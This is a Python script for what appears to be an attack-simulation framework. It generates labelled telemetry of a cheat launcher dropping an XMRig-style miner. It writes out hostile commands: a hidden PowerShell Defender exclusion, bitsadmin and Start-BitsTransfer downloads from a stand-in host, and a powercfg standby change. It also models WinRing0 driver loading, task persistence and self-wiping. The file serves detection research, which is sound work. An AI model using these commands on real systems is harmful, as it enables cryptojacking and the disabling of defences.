"""A cheat's launcher that has BITS fetch a miner in three ways (bitsadmin, Start-BitsTransfer, COM), runs it under another
name with a configuration file and the WinRing0 driver, and wipes itself. Resembles XMRig droppers in game cheats."""
from scenery import MICROSOFT, Desktop

SETTING = {"start": "2024-11-18T19:22:05", "user": "ZENTRALE\\jonas", "home": "C:\\Users\\jonas", "computer": "ZENTRALE",
           "os_version": (10, 0, 22631)}
HOME = r"C:\ProgramData\NvBroker"
HIDDEN, NORMAL = 0x22, 0x20
CONTENT, POOL, SPARE_POOL = ("198.51.100.61", 443), ("203.0.113.140", 3333), ("203.0.113.141", 14444)
DRIVER_KEY = r"HKLM\System\CurrentControlSet\Services\WinRing0_1_2_0"
TASK = "NvBrokerTelemetry"
TASK_CACHE = r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Schedule\TaskCache"
TASK_ID = "{6B0E2C17-93D4-4E0B-8F1D-2A7C50D1E9A4}"


def fetch(c, bits, target, temporary, size, port):
    """BITS' own part: a hidden temporary file in the target's folder, filled from the web, and renamed at the end."""
    waiting = HOME + "\\" + temporary
    c.write_at(bits, r"C:\ProgramData\Microsoft\Network\Downloader\qmgr.db", 65536, 8192)
    c.drop(bits, waiting, 0)
    c.attributes(bits, waiting, HIDDEN)
    c.net(bits, "Connect", CONTENT, port)
    c.net(bits, "Send", CONTENT, port, 310)
    c.open(bits, waiting, 0x120116)
    for at in range(0, size, 65536):
        c.net(bits, "Receive", CONTENT, port, min(65536, size - at))
        c.write_at(bits, waiting, at, min(65536, size - at))
    c.close(bits, waiting)
    c.net(bits, "Disconnect", CONTENT, port)
    c.rename(bits, waiting, target)
    c.attributes(bits, target, NORMAL)


def also(c, *processes):
    """The behaviour just told was done through these processes too."""
    c.behaviours[-1].pids.update(process.pid for process in processes)


def register_task(c, scheduler):
    tree, task = TASK_CACHE + "\\Tree\\" + TASK, TASK_CACHE + "\\Tasks\\" + TASK_ID
    c.drop(scheduler, r"C:\Windows\System32\Tasks" + "\\" + TASK, 3188)
    c.key(scheduler, tree, new=True)
    c.set_value(scheduler, tree + r"\Id", "REG_SZ", TASK_ID)
    c.key(scheduler, task, new=True)
    c.set_value(scheduler, task + r"\Path", "REG_SZ", "\\" + TASK)
    c.set_value(scheduler, task + r"\Actions", "REG_BINARY", b"\3\0" + (HOME + r"\NvBroker.exe").encode("utf-16-le"))


def load_driver(c, desktop, kernel, path):
    """The service manager registers the driver, the kernel loads it."""
    c.key(desktop.services, DRIVER_KEY, new=True)
    for name, number in (("Type", 1), ("Start", 3), ("ErrorControl", 1)):
        c.set_value(desktop.services, DRIVER_KEY + "\\" + name, "REG_DWORD", number)
    c.set_value(desktop.services, DRIVER_KEY + r"\ImagePath", "REG_EXPAND_SZ", "\\??\\" + path)
    c.load(kernel, path, 0xFFFFF80312340000, 0x7000)


def story(c):
    desktop = Desktop(c)
    system32 = c.system_root + "\\System32\\"
    bits = c.system(system32 + "svchost.exe", system32 + "svchost.exe -k netsvcs -p -s BITS", parent=desktop.services)
    kernel = c.system("System", pid=4)
    c.host(CONTENT[0], "dl.skinvault.example")
    c.host(POOL[0], "eu.moneropool.example")
    desktop.murmur(8)
    image = c.home + r"\Downloads\SkinChanger\Launcher.exe"
    sample = c.spawn(desktop.explorer, image, integrity="High")
    for name in ("user32", "advapi32", "ole32", "shell32"):
        c.load(sample, system32 + name + ".dll")
    c.folder(sample, HOME)
    with c.behaviour("hides its folder", "low", "T1564.001", doer=sample, about="NvBroker"):
        c.attributes(sample, HOME, 0x16)
    with c.behaviour("excludes its folder from Defender", "high", "T1685", doer=sample, about="NvBroker"):
        shell = c.spawn(sample, system32 + r"WindowsPowerShell\v1.0\powershell.exe",
                        'powershell -NoP -W Hidden -C "Add-MpPreference -ExclusionPath %s"' % HOME, **MICROSOFT)
        c.load(shell, system32 + r"wbem\wbemprox.dll")
        c.set_value(desktop.defender, r"HKLM\SOFTWARE\Microsoft\Windows Defender\Exclusions\Paths" + "\\" + HOME,
                    "REG_DWORD", 0)
    also(c, shell)
    c.exit(shell)
    desktop.murmur(3)
    desktop.resolve()
    archive, inner = HOME + r"\nvb.zip", HOME + r"\t\xmrig.exe"
    with c.behaviour("has bitsadmin fetch an archive", "medium", ("T1197", "T1105"), doer=sample,
                     about=("bitsadmin", "nvb.zip")):
        admin = c.spawn(sample, system32 + "bitsadmin.exe", "bitsadmin /transfer nvb /download /priority FOREGROUND "
                        "https://dl.skinvault.example/p/nvb.zip " + archive, **MICROSOFT)
        c.load(admin, system32 + "BitsProxy.dll")
        fetch(c, bits, archive, "BIT4F1A.tmp", 2_400_000, 50110)
    also(c, admin)
    c.exit(admin)
    with c.behaviour("has PowerShell's Start-BitsTransfer fetch a program", "medium", ("T1197", "T1105"), doer=sample,
                     about=("Start-BitsTransfer", "upd.exe")):
        shell = c.spawn(sample, system32 + r"WindowsPowerShell\v1.0\powershell.exe",
                        r'powershell -NoP -C "Start-BitsTransfer -Source https://dl.skinvault.example/p/upd.bin '
                        r'-Destination %s\upd.exe"' % HOME, **MICROSOFT)
        c.load(shell, system32 + "BitsProxy.dll")
        fetch(c, bits, HOME + r"\upd.exe", "BIT51C7.tmp", 90_000, 50114)
    also(c, shell)
    c.exit(shell)
    with c.behaviour("has BITS fetch the miner's configuration, by COM only", "low", ("T1197", "T1105"), doer=sample,
                     about=("qmgrprxy.dll", "config.json")):
        c.load(sample, system32 + "qmgrprxy.dll")
        fetch(c, bits, HOME + r"\config.json", "BIT6E03.tmp", 2_700, 50121)
    with c.behaviour("unpacks a miner and a driver", "medium", ("T1496", "T1496.001", "T1105", "T1140"), doer=sample,
                     about=("xmrig.exe", "WinRing0x64.sys")):
        tar = c.spawn(sample, system32 + "tar.exe", r"tar -xf %s -C %s\t" % (archive, HOME), **MICROSOFT)
        c.read(tar, archive, 2_400_000)
        c.drop(tar, inner, 6_200_000)
        c.drop(tar, HOME + r"\t\WinRing0x64.sys", 14_544)
    also(c, tar)
    c.exit(tar)
    with c.behaviour("puts the miner under a graphics maker's name", "medium", ("T1036.005", "T1036.003", "T1036"),
                     doer=sample, about="NvBroker.exe"):
        c.read(sample, inner, 6_200_000, chunk=1_048_576)
        c.drop(sample, HOME + r"\NvBroker.exe", 6_200_000, chunk=1_048_576)
    c.read(sample, HOME + r"\t\WinRing0x64.sys", 14_544)
    c.drop(sample, HOME + r"\WinRing0x64.sys", 14_544)
    for name in ("xmrig.exe", "WinRing0x64.sys"):
        c.delete(sample, HOME + "\\t\\" + name)
    with c.behaviour("registers a task that starts the miner", "medium", "T1053.005", doer=sample, about=TASK):
        c.load(sample, system32 + "taskschd.dll")
        register_task(c, desktop.scheduler)
    with c.behaviour("keeps the machine awake", "low", "T1653", doer=sample, about=("powercfg", "standby-timeout-ac")):
        power = c.spawn(sample, system32 + "powercfg.exe", "powercfg /change standby-timeout-ac 0", **MICROSOFT)
    also(c, power)
    c.exit(power)
    desktop.murmur(3)
    miner = c.spawn(desktop.scheduler, HOME + r"\NvBroker.exe", HOME + r"\NvBroker.exe", directory=HOME + "\\")
    for name in ("ws2_32", "iphlpapi", "userenv", "psapi"):
        c.load(miner, system32 + name + ".dll")
    c.read(miner, HOME + r"\config.json", 2_700)
    with c.behaviour("loads the vulnerable driver WinRing0", "high",
                     ("T1543.003", "T1068", "T1014", "T1547.006", "T1496.001"), doer=(miner, sample), about="WinRing0"):
        c.open(miner, HOME + r"\WinRing0x64.sys")
        load_driver(c, desktop, kernel, HOME + r"\WinRing0x64.sys")
    with c.behaviour("talks with mining pools on their ports", "medium", ("T1496", "T1496.001", "T1571"), doer=miner,
                     about=("moneropool", POOL[0], SPARE_POOL[0], "3333")):
        for port, pool in ((50130, POOL), (50131, SPARE_POOL)):
            c.net(miner, "Connect", pool, port)
            c.net(miner, "Send", pool, port, 412)
            c.net(miner, "Receive", pool, port, 530)
            for _ in range(6):
                c.wait(11)
                c.net(miner, "Receive", pool, port, 366)
                c.net(miner, "Send", pool, port, 187)
    wiper = c.spawn(sample, HOME + r"\upd.exe", '"%s\\upd.exe" -c "%s"' % (HOME, image))
    c.exit(sample)
    with c.behaviour("overwrites, renames and deletes the launcher", "medium", "T1070.004", doer=(sample, wiper),
                     about="Launcher.exe"):
        c.wait(2)
        c.open(wiper, image, 0x120116)
        for at in range(0, 786_432, 65536):
            c.write_at(wiper, image, at, 65536)
        c.close(wiper, image)
        folder = image.rsplit("\\", 1)[0] + "\\"
        c.rename(wiper, image, folder + "AAAAAAAA.AAA")
        c.rename(wiper, folder + "AAAAAAAA.AAA", folder + "ZZZZZZZZ.ZZZ")
        c.delete(wiper, folder + "ZZZZZZZZ.ZZZ")
    c.exit(wiper)
    desktop.murmur(5)
